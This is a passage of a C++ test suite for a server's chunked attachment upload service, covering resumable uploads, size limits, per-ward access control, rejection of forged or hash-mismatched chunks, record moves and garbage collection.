// Attachments' bytes on the server (PROTOCOL.md "Attachments",
// blobservice.h): chunks up and down byte for byte, resuming, the limits
// (413, 422, 400), who may send and fetch (403, and the dedupe that never
// hands bytes to a scope whose writers did not send them), what an uploader
// cannot do (claim more bytes than its record says, touch another's upload,
// replace a chunk of a whole file), the union merge of
// two devices' additions, a move taking its files' standing along, and the
// garbage collection after the grace period. Through HttpApi::handle, on
// both stores.
#include "attachment.h"
#include "blobgc.h"
#include "bodygate.h"
#include "guardedserver.h"
#include "httpapi.h"
#include "serverfixture.h"

#include <httplib.h>

#include <filesystem>
#include <limits>
#include <map>
#include <thread>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

using namespace kyodo;
using namespace kyodo::server;
using namespace kyodo::server::test;

namespace {

const std::string kNaka = "ward:naka", kNishi = "ward:nishi";
const char *kNote = "blobtest.note";

// A type of our own with an attachments field: the tests do not depend on
// which plugin schemas list files.
json testPlugin()
{
    const json label = {{"ja", "テスト"}, {"en", "Test"}};
    return {{"plugin", "blobtest"},
            {"version", 1},
            {"label", label},
            {"types",
             {{{"id", kNote},
               {"label", label},
               {"scopes", {"ward"}},
               {"title", "title"},
               {"list", {"title"}},
               {"fields",
                {{{"key", "title"}, {"type", "text"}, {"required", true}, {"label", label}},
                 {{"key", "photos"},
                  {"type", "attachments"},
                  {"accept", {"image/*"}},
                  {"max_mb", 10},
                  {"label", label}}}}}}}};
}

struct Account {
    std::string name;
    std::vector<std::string> scopes;
    std::vector<std::string> readScopes = {};
    std::string role = "staff";
};

const std::vector<Account> kAccounts = {
    {"naka", {kNaka}},
    {"naka2", {kNaka}},
    {"nishi", {kNishi}},
    {"nakaReader", {"city"}, {kNaka}},   // reads 中区, writes none of it
    {"nishiReader", {"city"}, {kNishi}}, // reads 西区 only
    {"admin", {}, {}, "admin"},
};

std::string bytesOf(std::size_t n, unsigned seed)
{
    std::string out(n, '\0');
    std::uint32_t x = seed * 2654435761u + 1;
    for (char &c : out) {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        c = static_cast<char>(x);
    }
    // A JPEG's signature first: the server holds a file's first bytes to the
    // kind its record says (entryOf says image/jpeg).
    out.replace(0, std::min<std::size_t>(n, 3), std::string("\xFF\xD8\xFF").substr(0, std::min<std::size_t>(n, 3)));
    return out;
}

json entryOf(const std::string &bytes, const std::string &name)
{
    return {{"sha256", sha256Hex(bytes)},
            {"name", name},
            {"mime", "image/jpeg"},
            {"size", static_cast<std::int64_t>(bytes.size())}};
}

class BlobsTest : public StoreTest {
protected:
    SchemaSet schemas = withTestPlugin();
    std::unique_ptr<HttpApi> api;
    std::map<std::string, std::string> tokens, clients;
    std::map<std::string, std::int64_t> cseqs;
    std::uint64_t hlc = HybridClock::pack(1'800'000'000'000, 0);
    const std::int64_t C = kBlobChunkSize;

    static SchemaSet withTestPlugin()
    {
        SchemaSet s = loadSchemas();
        if (Status st = s.add(testPlugin(), "tst_blobs"); !st)
            throw std::runtime_error(st.error().text());
        return s;
    }

    void SetUp() override
    {
        StoreTest::SetUp();
        if (IsSkipped())
            return;
        ApiOptions o;
        o.log = false;
        api = std::make_unique<HttpApi>(store, schemas, o);
        {
            auto tx = store.beginWrite();
            for (const Account &a : kAccounts) {
                tx->saveUser(UserRow{a.name, a.role, hashPassword("pw", 1000), false, {}});
                for (const std::string &s : a.scopes)
                    tx->addGrant(a.name, s);
                for (const std::string &s : a.readScopes)
                    tx->addGrant(a.name, s, GrantAccess::Read);
            }
            tx->commit();
        }
        for (const Account &a : kAccounts) {
            clients[a.name] = newUuidV7();
            ApiResponse r = api->handle(
                {"POST", "/v1/login", "",
                 json{{"user", a.name}, {"password", "pw"}, {"client_id", clients[a.name]}}.dump(), "127.0.0.1"});
            ASSERT_EQ(r.status, 200) << r.body;
            tokens[a.name] = json::parse(r.body)["token"];
        }
    }

    json push(const std::string &who, Mutation m)
    {
        m.cseq = ++cseqs[who];
        m.type = kNote;
        ApiResponse r =
            api->handle({"POST", "/v1/push", "Bearer " + tokens[who],
                         json{{"client_id", clients[who]}, {"mutations", {mutationToJson(m)}}}.dump(), "127.0.0.1"});
        EXPECT_EQ(r.status, 200) << r.body;
        return r.status == 200 ? json::parse(r.body)["results"][0] : json();
    }

    std::string createNote(const std::string &who, const std::string &scope, json photos)
    {
        const std::string id = newUuidV7();
        json r = push(who, createOf(0, id, scope, {{"title", "訪問"}, {"photos", std::move(photos)}}, ++hlc));
        EXPECT_EQ(r["status"], "applied") << r.dump();
        return id;
    }

    json fieldsOf(const std::string &id)
    {
        auto tx = store.beginRead();
        auto row = tx->loadRecord(id);
        EXPECT_TRUE(row);
        return row ? recordFromDoc(json::parse(row->doc))->fields : json();
    }

    ApiResponse call(const std::string &who, const std::string &method, const std::string &path, std::string body = {},
                     std::string chunkSha = {})
    {
        return api->handle({method, path, "Bearer " + tokens[who], std::move(body), "127.0.0.1",
                            std::to_string(kProtocolVersion), std::move(chunkSha)});
    }

    ApiResponse upload(const std::string &who, const std::string &sha, std::int64_t i, const std::string &bytes)
    {
        return call(who, "POST", "/v1/blobs/" + sha + "/chunks/" + std::to_string(i), bytes, sha256Hex(bytes));
    }

    // Every chunk of `bytes`, in order; each must be taken.
    void uploadAll(const std::string &who, const std::string &bytes)
    {
        const std::string sha = sha256Hex(bytes);
        for (std::int64_t i = 0; i < chunkCount(static_cast<std::int64_t>(bytes.size())); ++i) {
            ApiResponse r = upload(who, sha, i, bytes.substr(i * C, chunkLength(bytes.size(), i)));
            ASSERT_EQ(r.status, 200) << r.body;
        }
    }

    json status(const std::string &who, const std::string &sha, int expect = 200)
    {
        ApiResponse r = call(who, "GET", "/v1/blobs/" + sha);
        EXPECT_EQ(r.status, expect) << r.body;
        return json::parse(r.body);
    }

    ApiResponse download(const std::string &who, const std::string &sha, std::int64_t i)
    {
        return call(who, "GET", "/v1/blobs/" + sha + "/chunks/" + std::to_string(i));
    }

    std::string code(const ApiResponse &r) { return json::parse(r.body)["error"]["code"]; }
};

KYODO_INSTANTIATE_FOR_STORES(BlobsTest);

} // namespace

TEST_P(BlobsTest, aFileSentInChunksComesBackByteIdenticalAndResumesWhereItStopped)
{
    const std::string file = bytesOf(2 * C + C / 2, 1); // 2.5 MiB: three chunks
    const std::string sha = sha256Hex(file);
    createNote("naka", kNaka, {entryOf(file, "a.jpg")});

    json s = status("naka", sha);
    EXPECT_EQ(s["size"], 2 * C + C / 2);
    EXPECT_EQ(s["chunks"], 3);
    EXPECT_EQ(s["have"], json::array());
    EXPECT_EQ(s["complete"], false);

    ApiResponse r = upload("naka", sha, 0, file.substr(0, C));
    ASSERT_EQ(r.status, 200) << r.body;
    EXPECT_EQ(json::parse(r.body), (json{{"have", 1}, {"chunks", 3}, {"complete", false}}));
    // The device went offline: what is there already is said, and only the rest is sent.
    EXPECT_EQ(status("naka", sha)["have"], json({0}));
    ASSERT_EQ(upload("naka", sha, 2, file.substr(2 * C)).status, 200);
    EXPECT_EQ(status("naka", sha)["have"], json({0, 2}));
    r = upload("naka", sha, 1, file.substr(C, C));
    ASSERT_EQ(r.status, 200) << r.body;
    EXPECT_EQ(json::parse(r.body), (json{{"have", 3}, {"chunks", 3}, {"complete", true}}));
    // Sending a chunk again is harmless.
    r = upload("naka", sha, 1, file.substr(C, C));
    ASSERT_EQ(r.status, 200) << r.body;
    EXPECT_EQ(json::parse(r.body)["complete"], true);

    // The writer and a reader of the ward get the same bytes.
    for (const std::string who : {"naka", "nakaReader"}) {
        std::string back;
        for (int i = 0; i < 3; ++i) {
            ApiResponse d = download(who, sha, i);
            ASSERT_EQ(d.status, 200) << d.body;
            EXPECT_TRUE(d.binary);
            EXPECT_EQ(d.chunkSha256, sha256Hex(d.body));
            back += d.body;
        }
        EXPECT_TRUE(back == file) << who;
        EXPECT_EQ(status(who, sha)["complete"], true);
    }
    EXPECT_EQ(download("naka", sha, 3).status, 400); // out of range
    EXPECT_EQ(upload("naka", sha, 3, "x").status, 400);
}

TEST_P(BlobsTest, aBodyOverOneMebibyteIsRefusedFromTheHead)
{
    const std::string sha(64, 'a');
    const std::string path = "/v1/blobs/" + sha + "/chunks/0";
    auto head = [&](std::int64_t length, const char *type) {
        return refuseBeforeBody({"POST", path, true, std::to_string(length), "", "", type}, 4 * 1024 * 1024);
    };
    auto refused = head(C + 1, "application/octet-stream");
    ASSERT_TRUE(refused);
    EXPECT_EQ(refused->status, 413);
    EXPECT_EQ(refused->error.code, "too_large");
    EXPECT_FALSE(head(C, "application/octet-stream"));
    ASSERT_TRUE(head(C, "application/json"));
    EXPECT_EQ(head(C, "application/json")->status, 415);
    // Told what a chunk is sent as, not the JSON routes' rule.
    EXPECT_NE(head(C, "application/json")->error.text().find("application/octet-stream"), std::string::npos)
        << head(C, "application/json")->error.text();
    // Bytes are taken on this route only.
    EXPECT_TRUE(refuseBeforeBody({"POST", "/v1/push", true, "10", "", "", "application/octet-stream"}, 1 << 22));

    // And if a body got past the head, the service says the same.
    const std::string file = bytesOf(3 * C, 2);
    createNote("naka", kNaka, {entryOf(file, "big.jpg")});
    ApiResponse r = upload("naka", sha256Hex(file), 0, file.substr(0, C + 1));
    EXPECT_EQ(r.status, 413) << r.body;
}

TEST_P(BlobsTest, onlyWritersOfAScopeWhoseLiveRecordListsTheBlobMaySendIt)
{
    const std::string file = bytesOf(5000, 3);
    const std::string sha = sha256Hex(file);
    const std::string unlisted = bytesOf(5000, 4);
    createNote("naka", kNaka, {entryOf(file, "a.jpg")});

    // No record lists it: nobody learns anything of it.
    for (const std::string who : {"naka", "admin"}) {
        EXPECT_EQ(upload(who, sha256Hex(unlisted), 0, unlisted).status, 403);
        EXPECT_EQ(status(who, sha256Hex(unlisted), 403)["error"]["code"], "forbidden");
        EXPECT_EQ(download(who, sha256Hex(unlisted), 0).status, 403);
    }
    // Another ward's clerk.
    ApiResponse r = upload("nishi", sha, 0, file);
    EXPECT_EQ(r.status, 403);
    EXPECT_EQ(code(r), "forbidden");
    status("nishi", sha, 403);
    // A grant for reading only sends nothing, though it may ask and fetch.
    EXPECT_EQ(upload("nakaReader", sha, 0, file).status, 403);
    EXPECT_EQ(status("nakaReader", sha)["have"], json::array());
    EXPECT_EQ(download("nakaReader", sha, 0).status, 404);

    uploadAll("naka", file);
    EXPECT_EQ(download("nakaReader", sha, 0).status, 200);
    EXPECT_EQ(download("nishi", sha, 0).status, 403);
    EXPECT_EQ(call("naka", "POST", "/v1/blobs/" + sha).status, 405);
    EXPECT_EQ(status("naka", "not-a-hash", 400)["error"]["code"], "bad_request");
}

TEST_P(BlobsTest, aSenderWhoMayNotSendIsRefusedFromTheHead)
{
    const std::string file = bytesOf(3000, 16);
    const std::string sha = sha256Hex(file);
    createNote("naka", kNaka, {entryOf(file, "a.jpg")});
    const std::string path = "/v1/blobs/" + sha + "/chunks/0";
    auto head = [&](const std::string &who, const std::string &at) {
        return api->refuseChunkSender({"POST", at, who.empty() ? "" : "Bearer " + tokens[who], {}, "127.0.0.1"});
    };
    for (const std::string who : {"naka", "naka2", "admin"})
        EXPECT_FALSE(head(who, path)) << who;
    for (const std::string who : {"nishi", "nakaReader"}) {
        auto refused = head(who, path);
        ASSERT_TRUE(refused) << who;
        EXPECT_EQ(refused->status, 403) << who;
        EXPECT_EQ(json::parse(refused->body)["error"]["code"], "forbidden");
    }
    ASSERT_TRUE(head("", path));
    EXPECT_EQ(head("", path)->status, 401);
    // What the route would refuse once the body is read is refused from the
    // head, with the route's answer; the caller is known first.
    const std::map<std::string, std::pair<int, std::string>> wrong = {
        {"/v1/blobs/" + sha, {405, "method_not_allowed"}},
        {"/v1/blobs/not-a-hash/chunks/0", {400, "bad_request"}},
        {"/v1/blobs/" + sha + "/chunks/x", {400, "bad_request"}},
        {"/v1/blobs/" + sha + "/chunks/-1", {400, "bad_request"}},
        {"/v1/blobs/" + sha + "/parts/0", {404, "not_found"}},
    };
    for (const auto &[at, answer] : wrong) {
        for (const std::string who : {"naka", "nishi"}) {
            auto refused = head(who, at);
            ASSERT_TRUE(refused) << who << " " << at;
            EXPECT_EQ(refused->status, answer.first) << who << " " << at;
            EXPECT_EQ(json::parse(refused->body)["error"]["code"], answer.second) << who << " " << at;
            const ApiResponse routed = call(who, "POST", at, "x", sha256Hex("x"));
            EXPECT_EQ(routed.status, refused->status) << who << " " << at << ": the route answers alike";
        }
        EXPECT_EQ(head("", at)->status, 401) << at;
    }
}

TEST_P(BlobsTest, aChunkNamedByAnythingButAWholeNumberIsABadRequest)
{
    const std::string file = bytesOf(C + 10, 4);
    const std::string sha = sha256Hex(file);
    createNote("naka", kNaka, {entryOf(file, "a.jpg")});
    for (const std::string index :
         {"-1", "-0", " 1", "abc", "0x1", "1e3", "+1", "1.0", "", "1000000000", "99999999999999999999"})
        for (const char *method : {"GET", "POST"}) {
            ApiResponse r = call("naka", method, "/v1/blobs/" + sha + "/chunks/" + index, "x", sha256Hex("x"));
            EXPECT_EQ(r.status, 400) << method << " chunk '" << index << "': " << r.body;
            EXPECT_EQ(code(r), "bad_request") << method << " chunk '" << index << "'";
        }
    // Past the file's end, in range for a name: the service says how many there are.
    ApiResponse past = download("naka", sha, 999999999);
    EXPECT_EQ(past.status, 400) << past.body;
    EXPECT_EQ(call("naka", "GET", "/v1/blobs/" + sha + "/pieces/0").status, 404);
}

TEST_P(BlobsTest, knowingAHashIsNotEnoughEachScopesWritersSendTheBytesThemselves)
{
    const std::string file = bytesOf(C + 10, 5);
    const std::string sha = sha256Hex(file);
    createNote("naka", kNaka, {entryOf(file, "a.jpg")});
    uploadAll("naka", file);
    // 西区 lists the same file, which the server holds whole; its writers never sent it.
    createNote("nishi", kNishi, {entryOf(file, "copied-hash.jpg")});
    json s = status("nishiReader", sha);
    EXPECT_EQ(s["have"], json::array());
    EXPECT_EQ(s["complete"], false);
    EXPECT_EQ(download("nishiReader", sha, 0).status, 404);
    EXPECT_EQ(code(download("nishi", sha, 1)), "not_found");
    EXPECT_EQ(status("nishi", sha)["have"], json::array()); // so its device sends every chunk

    // The bytes compared with what is held, nothing stored twice: then 西区 reads them.
    std::int64_t before = store.beginRead()->blobBytesStored();
    uploadAll("nishi", file);
    EXPECT_EQ(store.beginRead()->blobBytesStored(), before);
    EXPECT_EQ(status("nishiReader", sha)["complete"], true);
    ApiResponse d = download("nishiReader", sha, 1);
    ASSERT_EQ(d.status, 200);
    EXPECT_TRUE(d.body == file.substr(C));
}

TEST_P(BlobsTest, aRecordNamingAnotherWardsHashLearnsNeitherThatTheFileIsHeldNorItsSize)
{
    const std::string file = bytesOf(3 * C + 7, 41);
    const std::string sha = sha256Hex(file);
    createNote("naka", kNaka, {entryOf(file, "a.jpg")});
    uploadAll("naka", file);
    // 西区's writer names the hash with a made-up size: told back what their
    // own record says, exactly as for a hash nobody ever sent.
    json planted = entryOf(file, "guess.jpg");
    planted["size"] = 5;
    createNote("nishi", kNishi, {planted});
    const std::string never = bytesOf(2 * C, 42);
    json unknown = entryOf(never, "never-sent.jpg");
    unknown["size"] = 5;
    createNote("nishi", kNishi, {unknown});
    for (const std::string who : {"nishi", "nishiReader"}) {
        const json held = status(who, sha), none = status(who, sha256Hex(never));
        EXPECT_EQ(held["size"], 5) << who << ": " << held;
        EXPECT_EQ(held["chunks"], 1) << who;
        EXPECT_EQ(held["complete"], false) << who;
        for (const char *key : {"size", "chunks", "have", "complete"})
            EXPECT_EQ(held[key], none[key]) << who << " " << key;
    }
    // The ward that has it sees the file as it is.
    EXPECT_EQ(status("nakaReader", sha)["size"], 3 * C + 7);
}

TEST_P(BlobsTest, anUploadForOneWardDoesNotReachAnotherWardWhoseRecordOnlyNamesTheHash)
{
    const std::string file = bytesOf(C + 20, 31);
    const std::string sha = sha256Hex(file);
    // 西区's writer names a file of 中区's they never had…
    createNote("nishi", kNishi, {entryOf(file, "planted.jpg")});
    // …and someone who may write in both wards uploads it for a 中区 record.
    createNote("admin", kNaka, {entryOf(file, "a.jpg")});
    uploadAll("admin", file);
    EXPECT_EQ(status("nakaReader", sha)["complete"], true);
    EXPECT_EQ(download("nakaReader", sha, 0).status, 200);
    // 西区 was not what the upload was for: its readers and writers get nothing.
    EXPECT_EQ(status("nishiReader", sha)["have"], json::array());
    EXPECT_EQ(download("nishiReader", sha, 0).status, 404);
    EXPECT_EQ(download("nishi", sha, 1).status, 404);
    // The uploader's device is done: what it listed itself has every chunk.
    EXPECT_EQ(status("admin", sha)["have"], json::array({0, 1}));
    EXPECT_EQ(status("admin", sha)["complete"], true);
    // 西区 gets it when its own writer sends the bytes.
    uploadAll("nishi", file);
    EXPECT_EQ(download("nishiReader", sha, 1).status, 200);
}

TEST_P(BlobsTest, bytesThatDoNotMatchTheirHashAreRefusedAndABadWholeIsDropped)
{
    const std::string file = bytesOf(C + 100, 6);
    const std::string sha = sha256Hex(file);
    createNote("naka", kNaka, {entryOf(file, "a.jpg")});
    const std::string first = file.substr(0, C);
    // The header names other bytes.
    ApiResponse r = call("naka", "POST", "/v1/blobs/" + sha + "/chunks/0", first, sha256Hex("other"));
    EXPECT_EQ(r.status, 422);
    EXPECT_EQ(code(r), "hash_mismatch");
    // The header is right, the length is not the chunk's.
    EXPECT_EQ(upload("naka", sha, 1, file.substr(C, 99)).status, 422);
    EXPECT_EQ(status("naka", sha)["have"], json::array());

    // A record names a hash its bytes do not have: each chunk matches its
    // header, the whole does not; everything sent is dropped.
    const std::string liar = bytesOf(C + 100, 7);
    json entry = entryOf(liar, "liar.jpg");
    entry["sha256"] = sha256Hex("something else");
    createNote("naka", kNaka, {entry});
    const std::string named = entry["sha256"];
    ASSERT_EQ(upload("naka", named, 0, liar.substr(0, C)).status, 200);
    r = upload("naka", named, 1, liar.substr(C));
    EXPECT_EQ(r.status, 422) << r.body;
    EXPECT_EQ(code(r), "hash_mismatch");
    EXPECT_EQ(status("naka", named)["have"], json::array());
    EXPECT_EQ(download("naka", named, 0).status, 404);
}

TEST_P(BlobsTest, aSizeClaimedByAnotherUploaderChangesNothingOfTheOwnersUpload)
{
    const std::string file = bytesOf(C + 100, 21); // two chunks
    const std::string sha = sha256Hex(file);
    createNote("naka", kNaka, {entryOf(file, "a.jpg")});
    // More than the record says is never taken: no third chunk, no longer second one.
    EXPECT_EQ(upload("naka", sha, 2, file.substr(0, 100)).status, 400);
    EXPECT_EQ(upload("naka", sha, 1, file.substr(0, C)).status, 422);
    ASSERT_EQ(upload("naka", sha, 0, file.substr(0, C)).status, 200);

    // A second record, in the same ward and in another, claims the same hash
    // is five mebibytes (or a hundred bytes), and its writer sends chunks
    // laid out so, first: they are theirs alone.
    json big = entryOf(file, "big.jpg");
    big["size"] = 5 * C;
    createNote("naka2", kNaka, {big});
    json small = entryOf(file, "small.jpg");
    small["size"] = 100;
    createNote("nishi", kNishi, {small});
    EXPECT_EQ(status("naka2", sha)["chunks"], 5);
    ASSERT_EQ(upload("naka2", sha, 4, bytesOf(C, 22)).status, 200);
    EXPECT_EQ(status("naka2", sha)["have"], json({4}));
    ApiResponse r = upload("nishi", sha, 0, file.substr(0, 100)); // its whole, which is not the file
    EXPECT_EQ(r.status, 422) << r.body;
    EXPECT_EQ(code(r), "hash_mismatch");
    json st = status("naka", sha);
    EXPECT_EQ(st["size"], C + 100);
    EXPECT_EQ(st["have"], json({0}));

    // The owner's upload goes on as it began and makes the file; from then
    // on its size is that of every scope it reached. 西区, which it did not
    // reach, is still told what its own record says (aRecordNamingAnother…).
    r = upload("naka", sha, 1, file.substr(C));
    ASSERT_EQ(r.status, 200) << r.body;
    EXPECT_EQ(json::parse(r.body)["complete"], true);
    for (const std::string who : {"naka", "naka2"}) {
        json after = status(who, sha);
        EXPECT_EQ(after["size"], C + 100) << who;
        EXPECT_EQ(after["chunks"], 2) << who;
    }
    EXPECT_EQ(status("nishi", sha)["size"], 100);
    EXPECT_EQ(upload("naka2", sha, 4, bytesOf(C, 22)).status, 400);
    EXPECT_EQ(store.beginRead()->blobBytesStored(), C + 100); // the others' parts are gone
    std::string back;
    for (int i = 0; i < 2; ++i)
        back += download("nakaReader", sha, i).body;
    EXPECT_TRUE(back == file);
}

TEST_P(BlobsTest, anotherUploadersBytesNeverMixWithTheOwnersAndGiveTheirWardNothing)
{
    const std::string file = bytesOf(2 * C + 10, 23); // three chunks
    const std::string sha = sha256Hex(file);
    createNote("naka", kNaka, {entryOf(file, "a.jpg")});
    createNote("nishi", kNishi, {entryOf(file, "same.jpg")});
    ASSERT_EQ(upload("naka", sha, 0, file.substr(0, C)).status, 200);

    // Another writer, in another ward, knows the hash but not the bytes: what
    // it sends (its own hash in the header, the right length) is kept for
    // it alone, and the owner's chunks are not touched.
    const std::string forged = bytesOf(C, 24);
    ASSERT_EQ(upload("nishi", sha, 0, forged).status, 200);
    ASSERT_EQ(upload("nishi", sha, 1, bytesOf(C, 31)).status, 200);
    EXPECT_EQ(status("nishi", sha)["have"], json({0, 1}));
    EXPECT_EQ(status("naka", sha)["have"], json({0}));
    EXPECT_EQ(download("nishiReader", sha, 0).status, 404);
    // Its last chunk makes a wrong whole: its own parts go, nobody else's.
    ApiResponse r = upload("nishi", sha, 2, bytesOf(10, 32));
    EXPECT_EQ(r.status, 422) << r.body;
    EXPECT_EQ(status("nishi", sha)["have"], json::array());
    EXPECT_EQ(status("naka", sha)["have"], json({0}));

    // A forged chunk again, and then the owner finishes: the file is whole.
    ASSERT_EQ(upload("nishi", sha, 1, bytesOf(C, 33)).status, 200);
    ASSERT_EQ(upload("naka", sha, 1, file.substr(C, C)).status, 200);
    r = upload("naka", sha, 2, file.substr(2 * C));
    ASSERT_EQ(r.status, 200) << r.body;
    EXPECT_EQ(json::parse(r.body)["complete"], true);
    // What 西区's writer sent was not the file: its readers get nothing, and
    // other bytes are refused now that the file is fixed.
    EXPECT_EQ(status("nishiReader", sha)["have"], json::array());
    EXPECT_EQ(download("nishiReader", sha, 0).status, 404);
    EXPECT_EQ(download("nishiReader", sha, 1).status, 404);
    EXPECT_EQ(upload("nishi", sha, 0, forged).status, 422);
    EXPECT_EQ(upload("naka2", sha, 0, forged).status, 422);
    // The real bytes count as the sender's.
    uploadAll("nishi", file);
    ApiResponse d = download("nishiReader", sha, 0);
    ASSERT_EQ(d.status, 200);
    EXPECT_TRUE(d.body == file.substr(0, C));
    EXPECT_EQ(d.chunkSha256, sha256Hex(d.body));
    EXPECT_EQ(store.beginRead()->blobBytesStored(), 2 * C + 10);
}

TEST_P(BlobsTest, aForgerWhoSendsFirstAndAgainCannotStopTheOwner)
{
    const std::string file = bytesOf(2 * C + 10, 25);
    const std::string sha = sha256Hex(file);
    createNote("nishi", kNishi, {entryOf(file, "stolen-name.jpg")});
    createNote("naka", kNaka, {entryOf(file, "a.jpg")});
    // Someone who knows the hash, not the bytes, gets in first, and sends
    // between every chunk of the owner's.
    ASSERT_EQ(upload("nishi", sha, 0, bytesOf(C, 26)).status, 200);
    for (std::int64_t i = 0; i < 3; ++i) {
        const std::string chunk = file.substr(i * C, chunkLength(file.size(), i));
        ApiResponse r = upload("naka", sha, i, chunk);
        ASSERT_EQ(r.status, 200) << r.body;
        EXPECT_EQ(json::parse(r.body)["complete"], i == 2);
        if (i < 2) {
            ASSERT_EQ(upload("nishi", sha, i + 1, bytesOf(chunkLength(file.size(), i + 1), 40 + i)).status,
                      i + 1 == 2 ? 422 : 200);
        }
    }
    EXPECT_EQ(download("nishi", sha, 0).status, 404);
    EXPECT_EQ(status("nishi", sha)["have"], json::array());
    std::string back;
    for (int i = 0; i < 3; ++i)
        back += download("nakaReader", sha, i).body;
    EXPECT_TRUE(back == file);
}

TEST_P(BlobsTest, aFileCompletedOutOfOrderIsCheckedWhole)
{
    // The running hash covers chunks in order; the rest is read back.
    const std::string file = bytesOf(3 * C + 7, 27);
    const std::string sha = sha256Hex(file);
    createNote("naka", kNaka, {entryOf(file, "a.jpg")});
    for (const std::int64_t i : {0, 2, 3}) {
        ASSERT_EQ(upload("naka", sha, i, file.substr(i * C, chunkLength(file.size(), i))).status, 200);
    }
    ApiResponse r = upload("naka", sha, 1, file.substr(C, C));
    ASSERT_EQ(r.status, 200) << r.body;
    EXPECT_EQ(json::parse(r.body)["complete"], true);

    // A liar's file, its chunks sent last to first, is still caught.
    const std::string liar = bytesOf(2 * C + 1, 28);
    json entry = entryOf(liar, "liar.jpg");
    entry["sha256"] = sha256Hex("not these bytes");
    createNote("naka", kNaka, {entry});
    const std::string named = entry["sha256"];
    for (const std::int64_t i : {2, 1})
        ASSERT_EQ(upload("naka", named, i, liar.substr(i * C, chunkLength(liar.size(), i))).status, 200);
    EXPECT_EQ(upload("naka", named, 0, liar.substr(0, C)).status, 422);
    EXPECT_EQ(status("naka", named)["have"], json::array());
}

TEST_P(BlobsTest, garbageCollectionSparesAFileListedAgainSinceItWasFoundExpired)
{
    const std::string file = bytesOf(3000, 29);
    const std::string sha = sha256Hex(file);
    const std::string id = createNote("naka", kNaka, {entryOf(file, "a.jpg")});
    uploadAll("naka", file);
    {
        // The record lets the file go long ago…
        auto tx = store.beginWrite();
        tx->setBlobRefs(id, {}, 1000, "naka");
        tx->commit();
    }
    {
        // …and lists it again just now: nothing is collected.
        auto tx = store.beginWrite();
        tx->setBlobRefs(id, {{sha, ListedBlob{static_cast<std::int64_t>(file.size()), "image/jpeg"}}}, 2000, "naka");
        tx->commit();
    }
    EXPECT_EQ(collectBlobs(store, 7 * 86400, 1000 + 30 * 86400).blobs, 0);
    EXPECT_EQ(download("naka", sha, 0).status, 200);
}

TEST_P(BlobsTest, twoDevicesAddingPhotosToOneRecordKeepBothAndBothMayBeSent)
{
    const std::string a = bytesOf(1000, 8), b = bytesOf(2000, 9), c = bytesOf(3000, 10);
    const std::string id = createNote("naka", kNaka, {entryOf(a, "a.jpg")});
    const json seen = json::array({entryOf(a, "a.jpg")});
    auto addPhoto = [&](const std::string &who, const std::string &bytes, const std::string &name) {
        Mutation m =
            editOf(0, id, kNaka, {{"photos", {entryOf(a, "a.jpg"), entryOf(bytes, name)}}}, {{"photos", 1}}, 1, ++hlc);
        m.prev = {{"photos", seen}};
        m.cseq = ++cseqs[who];
        m.type = kNote;
        // Straight to the push service: what reaches it from the wire is
        // tst_pushstream's and protocol.cpp's concern, the merge and the
        // references it keeps are this test's.
        PushService service(store, schemas);
        PushReply r = service.push(Caller{who, Role::Staff, {kNaka}}, PushRequest{clients[who], {m}});
        ASSERT_EQ(r.status, 200) << r.body.dump();
        EXPECT_EQ(r.body["results"][0]["status"], "applied") << r.body.dump();
    };
    addPhoto("naka", b, "b.jpg");
    addPhoto("naka2", c, "c.jpg"); // saw only a.jpg too
    std::set<std::string> names;
    const json fields = fieldsOf(id);
    for (const json &e : fields["photos"])
        names.insert(e["name"].get<std::string>());
    EXPECT_EQ(names, (std::set<std::string>{"a.jpg", "b.jpg", "c.jpg"}));
    uploadAll("naka", b);
    uploadAll("naka2", c);
    EXPECT_EQ(status("nakaReader", sha256Hex(b))["complete"], true);
    EXPECT_EQ(status("nakaReader", sha256Hex(c))["complete"], true);
}

TEST_P(BlobsTest, aRecordMovedToAnotherWardTakesItsFilesStandingAlong)
{
    const std::string file = bytesOf(4000, 11);
    const std::string id = createNote("naka", kNaka, {entryOf(file, "a.jpg")});
    uploadAll("naka", file);
    EXPECT_EQ(download("nishiReader", sha256Hex(file), 0).status, 403);
    Mutation m = createOf(0, id, kNishi, json::object(), ++hlc);
    m.op = Op::Move;
    ASSERT_EQ(push("admin", m)["status"], "applied");
    ApiResponse d = download("nishiReader", sha256Hex(file), 0);
    ASSERT_EQ(d.status, 200) << d.body;
    EXPECT_TRUE(d.body == file);
    EXPECT_EQ(download("nakaReader", sha256Hex(file), 0).status, 403); // it left 中区
}

TEST_P(BlobsTest, garbageCollectionRemovesAFileNoLiveRecordListsOnlyAfterTheGrace)
{
    const std::string gone = bytesOf(C + 1, 12), kept = bytesOf(700, 13);
    const std::string goneId = createNote("naka", kNaka, {entryOf(gone, "gone.jpg")});
    createNote("naka", kNaka, {entryOf(kept, "kept.jpg")});
    uploadAll("naka", gone);
    uploadAll("naka", kept);
    Mutation del = deleteOf(0, goneId, kNaka, 1, ++hlc);
    ASSERT_EQ(push("naka", del)["status"], "applied");
    const std::int64_t now = unixNow(), grace = kDefaultBlobGraceDays * 24 * 3600;

    BlobGcResult early = collectBlobs(store, grace, now + 3600);
    EXPECT_EQ(early.blobs, 0);
    BlobGcResult late = collectBlobs(store, grace, now + grace + 3600);
    EXPECT_EQ(late.blobs, 1);
    EXPECT_EQ(late.bytes, C + 1);
    EXPECT_EQ(store.beginRead()->blobBytesStored(), 700);
    EXPECT_FALSE(store.beginRead()->loadBlob(sha256Hex(gone)));
    EXPECT_EQ(status("naka", sha256Hex(kept))["complete"], true);
    EXPECT_EQ(collectBlobs(store, grace, now + 10 * grace).blobs, 0); // a listed file stays, however long
}

TEST_P(BlobsTest, garbageCollectionDropsTheChunksOfAnUploadGivenUpAndItCanStartAgain)
{
    const std::string given = bytesOf(C + 5, 17), whole = bytesOf(C + 6, 18);
    createNote("naka", kNaka, {entryOf(given, "given-up.jpg"), entryOf(whole, "whole.jpg")});
    ASSERT_EQ(upload("naka", sha256Hex(given), 0, given.substr(0, C)).status, 200);
    uploadAll("naka", whole);
    const std::int64_t now = unixNow(), grace = kDefaultBlobGraceDays * 24 * 3600;
    EXPECT_EQ(collectBlobs(store, grace, now + 3600).bytes, 0);
    BlobGcResult late = collectBlobs(store, grace, now + grace + 3600);
    EXPECT_EQ(late.blobs, 0); // both are listed
    EXPECT_EQ(late.bytes, C);
    EXPECT_EQ(store.beginRead()->blobBytesStored(), C + 6); // the whole file stays, however old
    EXPECT_EQ(status("naka", sha256Hex(given))["have"], json::array());
